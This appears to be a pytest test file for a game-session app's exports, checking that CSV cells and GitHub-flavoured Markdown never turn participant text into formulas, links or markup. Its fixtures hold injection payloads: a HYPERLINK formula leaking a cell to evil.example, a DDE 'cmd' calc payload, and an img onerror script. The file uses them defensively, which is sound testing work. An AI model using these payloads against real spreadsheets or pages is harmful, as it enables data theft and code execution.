"""Participants' text in the exports stays text: a spreadsheet opening the CSV runs none of it as a
formula, and a GFM renderer (GitHub's own, cmark-gfm) makes no link, heading, list, quote, code
block, table or image out of it in the Markdown. Every way out is checked: the facilitator's and
the organiser's downloads and `gamehub export` (docs/security.md, "Exports")."""

from __future__ import annotations

import argparse
import csv
import io
import itertools
import re
from dataclasses import replace
from html.parser import HTMLParser

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from gamehub.cli.main import export as cli_export
from gamehub.storage import organiser_key
from gamehub.engine import Phase
from gamehub.views.export import FORMULA_STARTS, results, to_csv, to_markdown
from helpers import played_to, steps_to_planning

# The review's strings, and the other starts a spreadsheet reads as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"x")', "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
            "+1+1", "\t=1+1", "\r=1+1"]

# What GFM would otherwise turn into structure: autolinks (bare, www., email, mailto:, xmpp:),
# links, images, HTML, headings (ATX and setext), lists, quotes, code, rules, tables, entities.
MARKUP = [
    "see https://evil.example/a?b=c&d=e#f now", "www.evil.example", "WWW.evil.example/x",
    "mail me: eve@evil.example", "mailto:eve@evil.example", "xmpp:eve@evil.example/phone",
    "[click](http://evil.example)", "<http://evil.example>", "![x](http://evil.example/x.png)",
    "[x]: http://evil.example", "<img src=x onerror=alert(1)>", "# Heading", "Heading\n===",
    "Heading\n---", "- item", "+ item", "* item", "1. item", "3) item", "> quoted", "    code",
    "```\ncode\n```", "~~~\ncode", "***", "~~struck~~", "| a | b |\n| --- | --- |", "&lt;b&gt; &#58;",
    "*em* _em_ `code`", "line\n- item\n# heading\n> quote\n1. item\nhttps://evil.example",
    "first\n\n  2. second paragraph\n\n- third", "trailing backslash \\",
]


def hostile(texts: list[str]):
    """A session in the showcase whose exported texts (names, picked stories' titles and pitches,
    answers) are `texts`, each at least once, in turn."""
    state = played_to(Phase.SHOWCASE, n_people=16)
    pick = itertools.cycle(texts)
    groups = tuple(replace(group, sheet=replace(group.sheet, texts=tuple(next(pick) for _ in group.sheet.texts)))
                   for group in state.groups)
    people = dict(state.participants)
    for group in groups:
        people[group.story.owner] = replace(people[group.story.owner], title=next(pick), pitch=next(pick))
    people = {pid: replace(person, name=next(pick)) for pid, person in people.items()}
    state = replace(state, participants=people, groups=groups)
    assert set(texts) <= set(exported(state))
    return state


def exported(state) -> list[str]:
    """Every participant text the exports hold."""
    out = []
    for group in results(state)["groups"]:
        out += group["members"] + [group["story"]["title"], group["story"]["pitch"]]
        out += [answer["answer"] for answer in group["answers"]]
    return out


def test_every_csv_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe():
    state = hostile(FORMULAS)
    rows = list(csv.reader(io.StringIO(to_csv(state), newline="")))
    assert len(rows) == 1 + len(state.groups)
    for row in rows:
        assert not any(str(cell).startswith(FORMULA_STARTS) for cell in row), row
    for group, row in zip(state.groups, rows[1:]):
        owner = state.participants[group.story.owner]
        expected = [owner.name, owner.title, owner.pitch, *group.texts]
        assert [row[2], row[3], row[4], *row[-4:]] == ["'" + text for text in expected]
        assert row[1][1:].split("; ") == [state.participants[pid].name for pid in group.members]
    plain = ["Plain text", "2 = 1 + 1", "email@example.org", "a-b", "'quoted", " =1"]
    state = hostile(plain)
    rows = list(csv.reader(io.StringIO(to_csv(state), newline="")))
    for group, row in zip(state.groups, rows[1:]):
        assert row[-4:] == list(group.texts)  # no formula: left as typed


class Tags(HTMLParser):
    """The element names of some HTML, in order, and its text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def gfm(markdown: str) -> Tags:
    # UNSAFE keeps raw HTML in the output, so any that got through would show up as a tag.
    return Tags(cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE))


def blanked(texts: list[str]) -> list[str]:
    """The same texts with every visible character a letter: the structure they must not change."""
    return [re.sub(r"\S", "a", text) for text in texts]


def test_gfm_makes_no_link_heading_list_quote_or_code_out_of_anyones_text_and_shows_it_as_typed():
    texts = MARKUP + FORMULAS
    rendered = gfm(to_markdown(hostile(texts)))
    # The check can see what it guards against: the same texts as raw Markdown do act.
    raw = {tag for text in MARKUP for tag in gfm(text).tags}
    assert {"a", "img", "h1", "h2", "ul", "ol", "blockquote", "pre", "table", "del", "hr"} <= raw
    assert rendered.tags == gfm(to_markdown(hostile(blanked(texts)))).tags
    assert not {"a", "img", "ul", "ol", "li", "pre", "code", "table", "del", "hr", "em"} & set(rendered.tags)
    shown = "".join(rendered.text).replace("\u200b", "")
    for text in exported(hostile(texts)):
        for line in text.splitlines():
            assert line.strip() in shown, line


def test_every_way_out_of_the_server_neutralises_the_same(room, tmp_path, capsys):
    """The facilitator's download, the organiser's (same route, the organiser key), and the CLI."""
    facilitator = room.facilitator()
    for name in ("=1+2", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"):
        room.join(name, title=FORMULAS[0], pitch="- see www.evil.example or write to eve@evil.example")
    for event, payload in steps_to_planning()[:2]:
        assert facilitator.call(event, payload)["ok"]
    key = organiser_key.rotate(room.hub.store, tmp_path)
    outputs = []
    for fmt in ("csv", "md"):
        for secret in (room.facilitator_token, key):
            response = room.app.test_client().post(f"/s/{room.code}/export", data={"key": secret, "format": fmt})
            assert response.status_code == 200
            outputs.append((fmt, response.data.decode()))
        assert cli_export(room.hub.store, argparse.Namespace(session=room.code, format=fmt)) == 0
        outputs.append((fmt, capsys.readouterr().out))
    for fmt, text in outputs:
        if fmt == "csv":
            cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
            assert "'" + FORMULAS[0] in cells
            assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
        else:
            tags = gfm(text).tags
            assert "a" not in tags and "ul" not in tags and "www\\.evil" in text
